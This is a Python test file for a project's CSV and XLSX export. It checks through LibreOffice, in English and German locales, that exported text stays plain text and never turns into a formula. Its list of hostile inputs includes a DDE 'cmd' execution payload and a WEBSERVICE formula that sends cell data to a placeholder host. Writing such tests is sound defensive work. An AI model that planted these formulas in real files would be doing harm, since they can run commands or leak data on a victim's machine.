"""What LibreOffice makes of our files, in English and German: every cell is what it was, and nothing runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from listen.mention import Change, Mention
from listen.outputs.cells import restored
from listen.outputs.csv import CsvOutput
from listen.outputs.output import Output
from listen.outputs.xlsx import XlsxOutput
from tests.outputs.spreadsheet import ENGLISH, GERMAN, SOFFICE, Cell, converted, opened
from tests.store.invented import NOON, mention

pytestmark = [
    pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed"),
    pytest.mark.timeout(240),
]

BERLIN = ZoneInfo("Europe/Berlin")
FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(1)", "\t=1", "＝1+1", "\u200b=1", "'=1", "''=1", '=HYPERLINK("http://a.example")',
            "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://a.example/\"&A1)", ' =1', "{=1}"]  # fmt: skip
VALUES = ["007", "41234567", "113512345678901234567890", "1e5", "1E+5", "3/4", "1-2", "5.1.", "5. Mai", "12. März 2026",
          "Mar 5", "May 2020", "jan 5", "Mo 5. Mai 2020", "1,234", "1.234", "1.000.000,5", "1,000,000.5", ",5", ".5",
          "5,", "5.", "50%", "$5", "5 €", "€5", "5 EUR", "1 1/2", "1:30", "12:30:15.5", "5 pm", "(5)", "5-", " 5 ",
          "5\u00a0", "TRUE", "false", "WAHR", "falsch", "#N/A", "#NAME?", "2026", "2026-11-21", "2026-11-21T12:00:00",
          "2026-11-21 13:00", "'007", "''3/4", "'wahr"]  # fmt: skip
WORDS = ["Grüße, „Größe“; straße", "😀👩\u200d👩\u200d👧 e\u0301 ü", 'sagt "nein"; und, geht',
         "eine Zeile\nzweite\n\nvierte", "x;y,z\tw|v", "'", "''", "it's", "#kindle", "a" * 5_000, "日本語",
         "مرحبا שלום", "  vorn und hinten  ", "0x1F", "May", "<r>=1</r>"]  # fmt: skip
TEXTS = FORMULAS + VALUES + WORDS
COLUMNS = ["id", "author", "title", "parent", "text", "likes", "complaint", "sentiment", "posted_at", "topics"]


def hostile() -> list[Mention]:
    return [
        mention(id=str(number), text=text, author=text, title=text, parent=text, likes=1_234 + number, topics=[text])
        for number, text in enumerate(TEXTS)
    ]


def written(path: Path, mentions: Sequence[Mention], style: str, **options: object) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        output: Output
        if path.suffix == ".xlsx":
            output = XlsxOutput(stream, columns=COLUMNS, zone=BERLIN)
        else:
            output = CsvOutput(stream, columns=COLUMNS, style=style, zone=BERLIN, **options)  # type: ignore[arg-type]
        for each in mentions:
            output.show(Change("new", each))
        output.close()
    return path


def texts_of(row: Sequence[Cell]) -> list[Cell]:
    return [row[COLUMNS.index(name)] for name in ("author", "title", "parent", "text", "topics")]


@pytest.mark.parametrize(
    ("style", "language", "delimiter"), [("excel", ENGLISH, ","), ("excel-de", GERMAN, ";")], ids=["English", "German"]
)
def test_every_cell_of_a_csv_is_what_it_was(style: str, language: int, delimiter: str, tmp_path: Path) -> None:
    sheet = opened(written(tmp_path / "x.csv", hostile(), style), language=language, delimiter=delimiter)
    assert [cell.value for cell in sheet[0][: len(COLUMNS)]] == COLUMNS
    for number, (text, row) in enumerate(zip(TEXTS, sheet[1:], strict=True)):
        assert not any(cell.formula for cell in row), text
        for cell in texts_of(row):
            assert (cell.kind, restored(cell.value)) == ("string", text)
        likes, complaint, sentiment, posted_at = row[5:9]
        assert (likes.kind, likes.value) == ("float", str(1_234 + number))
        assert (complaint.kind, complaint.value, sentiment.value) == ("float", "0.91", "-0.6")
        assert (posted_at.kind, posted_at.value) == ("date", "2026-11-21T13:00:00"), "noon, as clocks in Berlin show it"


@pytest.mark.parametrize(
    ("style", "language", "delimiter"), [("excel", ENGLISH, ","), ("excel-de", GERMAN, ";")], ids=["English", "German"]
)
def test_a_csv_that_a_spreadsheet_saved_again_gives_the_same_texts(
    style: str, language: int, delimiter: str, tmp_path: Path
) -> None:
    ours = written(tmp_path / "x.csv", hostile(), style)
    reading = f"--infilter=CSV:{ord(delimiter)},34,76,1,,{language},false,true"
    saved = converted(ours, f"csv:Text - txt - csv (StarCalc):{ord(delimiter)},34,76,1,,{language},false,true", reading)
    rows = list(csv.reader(io.StringIO(saved.read_text(encoding="utf-8-sig"), newline=""), delimiter=delimiter))
    places = [COLUMNS.index(name) for name in ("author", "title", "parent", "text")]
    assert [[restored(row[place]) for place in places] for row in rows[1:]] == [[text] * 4 for text in TEXTS]


def test_folded_texts_stand_on_one_line(tmp_path: Path) -> None:
    file = written(tmp_path / "x.csv", [mention(text=" a\r\n\r\n b\rc\u2028 d ")], "plain", fold=True)
    assert file.read_bytes().count(b"\n") == 2
    assert opened(file, language=ENGLISH)[1][4].value == "a b c d"


def test_every_cell_of_a_workbook_is_what_it_was(tmp_path: Path) -> None:
    sheet = opened(written(tmp_path / "x.xlsx", hostile(), ""))
    assert [cell.value for cell in sheet[0][: len(COLUMNS)]] == COLUMNS
    for number, (text, row) in enumerate(zip(TEXTS, sheet[1:], strict=True)):
        assert not any(cell.formula for cell in row), text
        for cell in texts_of(row):
            assert (cell.kind, cell.value.rstrip()) == ("string", text.rstrip())
        assert [(cell.kind, cell.value) for cell in row[5:9]] == [
            ("float", str(1_234 + number)), ("float", "0.91"), ("float", "-0.6"), ("date", "2026-11-21T13:00:00"),
        ]  # fmt: skip


def test_the_guard_is_needed(tmp_path: Path) -> None:
    """Without the apostrophe these texts would not be what they were; so the test above can fail."""
    file = tmp_path / "bare.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([[text] for text in ("=1+1", "007", "3/4", "TRUE", "1e5")])
    assert [row[0].kind for row in opened(file, language=ENGLISH)] == ["float", "float", "date", "boolean", "float"]


def test_dates_of_summer_and_winter_are_the_zones(tmp_path: Path) -> None:
    summer = datetime(2026, 7, 1, 22, 30, tzinfo=NOON.tzinfo)
    sheet = opened(written(tmp_path / "x.csv", [mention(posted_at=summer)], "excel-de"), language=GERMAN, delimiter=";")
    assert sheet[1][8].value == "2026-07-02T00:30:00"
